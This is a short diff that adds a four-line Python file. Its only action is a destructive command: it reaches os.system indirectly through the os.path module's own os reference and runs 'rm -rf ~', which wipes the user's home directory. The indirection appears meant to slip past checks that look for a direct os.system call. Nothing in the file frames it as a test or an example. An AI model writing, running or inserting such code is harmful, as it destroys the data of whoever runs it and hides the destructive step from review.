@@ -0,0 +1,4 @@
+import os
+
+p = os.path
+p.os.system('rm -rf ~')